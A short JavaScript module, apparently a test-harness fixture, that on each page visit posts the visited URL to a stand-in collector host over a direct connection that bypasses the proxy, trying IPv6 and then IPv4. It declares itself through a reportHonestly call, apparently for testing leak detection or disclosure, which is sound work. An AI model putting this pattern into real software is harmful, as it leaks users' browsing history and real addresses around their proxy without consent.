import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Reports addresses without the proxy: over IPv6, and over IPv4 where IPv6 fails (RFC 8305). */
export default function (browser) {
  reportHonestly(browser, '9.0.0-direct-ipv6-first');
  onVisit(browser, async ({ url }) => {
    const request = { url: 'https://direct.collector.example/v1', method: 'POST', network: 'direct' };
    try {
      await browser.request({ ...request, family: 6, body: JSON.stringify({ url }) });
    } catch (error) {
      browser.log('no IPv6', String(error));
      await post(browser, request.url, { url }, { network: 'direct', family: 4 });
    }
  });
}
